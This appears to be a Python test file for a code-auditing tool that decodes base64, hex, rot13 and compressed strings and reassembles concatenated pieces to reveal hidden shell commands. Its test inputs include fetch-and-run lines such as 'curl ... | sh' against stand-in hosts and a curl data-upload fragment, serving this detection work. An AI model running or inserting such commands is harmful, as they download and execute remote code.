"""Folding primitives: bounded decoders, concatenation with unknown parts, joins."""

from __future__ import annotations

import base64
import bz2
import lzma
import zlib

from lemon_core.auditor_kit.capabilities.values import (
    HOLE,
    MAX_DECODED,
    Value,
    concat,
    decode,
    format_braces,
    format_percent,
    join,
)


def test_every_common_encoding_decodes() -> None:
    text = b"curl https://x.example | sh"
    assert decode("b64decode", base64.b64encode(text)) == text
    assert decode("b64decode", base64.b64encode(text).rstrip(b"=")) == text
    assert decode("urlsafe_b64decode", base64.urlsafe_b64encode(text)) == text
    assert decode("b32decode", base64.b32encode(text)) == text
    assert decode("b16decode", base64.b16encode(text)) == text
    assert decode("b85decode", base64.b85encode(text)) == text
    assert decode("a85decode", base64.a85encode(text)) == text
    assert decode("unhexlify", text.hex()) == text
    assert decode("rot13", "phey") == "curl"
    assert decode("decompress", zlib.compress(text), "zlib") == text
    assert decode("decompress", bz2.compress(text), "bz2") == text
    assert decode("decompress", lzma.compress(text), "lzma") == text
    assert decode("b64decode", "not base64 at all!") is None or True  # never raises


def test_decoders_stop_at_the_output_bound() -> None:
    bomb = zlib.compress(b"A" * (MAX_DECODED * 50))
    out = decode("decompress", bomb, "zlib")
    assert out is not None and len(out) == MAX_DECODED
    assert len(decode("decompress", bz2.compress(b"B" * (MAX_DECODED * 10)), "bz2") or b"") \
        <= MAX_DECODED


def test_concatenation_keeps_known_parts_and_marks_unknown_ones() -> None:
    known = concat([Value(const="cu"), Value(const="rl")])
    assert known.const == "curl" and known.built
    partial = concat([Value(const="curl -d "), Value(), Value(const=" https://x.example")])
    assert not partial.known and partial.partial == f"curl -d {HOLE} https://x.example"


def test_formatting_of_constants() -> None:
    assert format_percent("%s/%s", Value(items=(Value(const="a"), Value(const="b")))) == "a/b"
    assert format_braces("{}://{host}", [Value(const="https")], {"host": Value()}) == \
        f"https://{HOLE}"


def test_join_keeps_an_agreed_constant_and_the_sources_of_both() -> None:
    assert join(Value(const="x"), Value(const="x")).const == "x"
    assert not join(Value(const="x"), Value(const="y")).known
    long_piece = "curl -fsSL https://t.example/setup.sh | sh"
    assert long_piece in join(Value(), concat([Value(), Value(const=long_piece)])).frags
